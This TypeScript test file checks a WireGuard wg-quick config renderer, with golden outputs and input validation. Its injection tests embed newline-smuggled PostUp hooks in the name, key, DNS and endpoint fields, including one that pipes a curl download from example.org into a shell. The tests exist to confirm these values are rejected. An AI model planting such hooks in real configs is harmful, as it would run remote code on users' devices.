import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { encodeKey } from '../../shared/keys.ts';
import { renderWgQuick, type WgQuickConf } from '../../shared/wg-quick.ts';
import { throwsValidation } from './throws-validation.ts';

const PRIV = encodeKey(new Uint8Array(32).fill(0x41));
const VM = encodeKey(new Uint8Array(32).fill(0x42));

const phone: WgQuickConf = {
  name: 'phone',
  privateKey: PRIV,
  addresses: ['203.0.113.131/32', '2001:DB8:A0::3/128'],
  dns: ['203.0.113.129', '2001:db8:a0::1'],
  mtu: 1420,
  peer: { publicKey: VM, endpoint: '203.0.113.10:51820', allowedIps: ['0.0.0.0/0', '::/0'], keepalive: 25 },
};

const invalid = (conf: unknown, field: string, pattern?: RegExp) =>
  throwsValidation(() => renderWgQuick(conf as WgQuickConf), field, pattern);

test('renders a wg-quick config a phone app imports (golden)', () => {
  assert.fixture(
    renderWgQuick(phone),
    [
      '# Aerie device: phone',
      '[Interface]',
      `PrivateKey = ${PRIV}`,
      'Address = 203.0.113.131/32, 2001:db8:a0::3/128',
      'DNS = 203.0.113.129, 2001:db8:a0::1',
      'MTU = 1420',
      '',
      '[Peer]',
      `PublicKey = ${VM}`,
      'AllowedIPs = 0.0.0.0/0, ::/0',
      'Endpoint = 203.0.113.10:51820',
      'PersistentKeepalive = 25',
      '',
    ].join('\n'),
  );
});

test('the minimum: bare addresses get host lengths, no DNS, no MTU, split tunnel', () => {
  const text = renderWgQuick({
    name: 'laptop',
    privateKey: PRIV,
    addresses: ['203.0.113.132', '2001:db8:a0::4'],
    peer: { publicKey: VM, endpoint: '[2001:db8:203::10]:51820', allowedIps: ['203.0.113.128/25', '2001:db8:a0::/64'] },
  });
  assert.fixture(
    text,
    [
      '# Aerie device: laptop',
      '[Interface]',
      `PrivateKey = ${PRIV}`,
      'Address = 203.0.113.132/32, 2001:db8:a0::4/128',
      '',
      '[Peer]',
      `PublicKey = ${VM}`,
      'AllowedIPs = 203.0.113.128/25, 2001:db8:a0::/64',
      'Endpoint = [2001:db8:203::10]:51820',
      '',
    ].join('\n'),
  );
  assert.not.match(renderWgQuick({ ...phone, dns: [] }), /DNS/);
});

test('nothing can inject a line or a wg-quick hook', () => {
  invalid({ ...phone, name: 'phone\nPostUp = curl example.org|sh' }, 'name', /device name/);
  invalid({ ...phone, name: 'Phone' }, 'name');
  invalid({ ...phone, name: 'p'.repeat(33) }, 'name', /at most 32/);
  invalid({ ...phone, name: '' }, 'name');
  invalid({ ...phone, name: 7 }, 'name', /expected a string/);
  invalid({ ...phone, privateKey: `${PRIV}\nPostUp = id` }, 'privateKey');
  invalid({ ...phone, addresses: [] }, 'addresses', /at least one/);
  invalid({ ...phone, addresses: ['203.0.113.131/32, 10.0.0.1/8'] }, 'addresses[0]');
  invalid({ ...phone, addresses: ['203.0.113.131/33'] }, 'addresses[0]');
  invalid({ ...phone, dns: ['203.0.113.129', 'example.org'] }, 'dns[1]');
  invalid({ ...phone, dns: ['203.0.113.129\nPostUp = id'] }, 'dns[0]');
  invalid({ ...phone, dns: '203.0.113.129' }, 'dns');
  invalid({ ...phone, mtu: 1279 }, 'mtu', /1280-65535/);
  invalid({ ...phone, mtu: 65536 }, 'mtu');
  invalid({ ...phone, mtu: 1420.5 }, 'mtu');
  invalid({ ...phone, peer: { ...phone.peer, endpoint: undefined } }, 'peer.endpoint');
  invalid({ ...phone, peer: { ...phone.peer, endpoint: '203.0.113.10:51820\nPostUp = id' } }, 'peer.endpoint');
  invalid({ ...phone, peer: { ...phone.peer, publicKey: 'x' } }, 'peer.publicKey');
  invalid({ ...phone, peer: { ...phone.peer, allowedIps: ['0.0.0.1/0'] } }, 'peer.allowedIps[0]', /did you mean 0\.0\.0\.0\/0/);
  invalid({ ...phone, peer: { ...phone.peer, keepalive: 70000 } }, 'peer.keepalive');
  invalid({ ...phone, peer: undefined }, 'peer.endpoint');
});

test.run();
